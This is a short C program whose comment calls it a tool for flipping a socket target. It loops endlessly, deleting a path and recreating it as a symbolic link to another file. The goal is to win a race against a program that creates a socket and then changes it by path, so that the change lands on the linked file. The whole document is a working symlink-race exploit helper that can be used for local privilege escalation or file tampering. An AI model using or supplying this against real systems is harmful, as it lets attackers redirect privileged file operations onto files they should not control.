/* flip SOCKET TARGET: puts a symbolic link to another file where a socket is made and takes it away again, as fast as it can,
   until it is killed: whoever binds the socket and then changes it by its path finds the link in between. */
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    for (;;) {
        unlink(argv[1]);
        symlink(argv[2], argv[1]);
    }
}
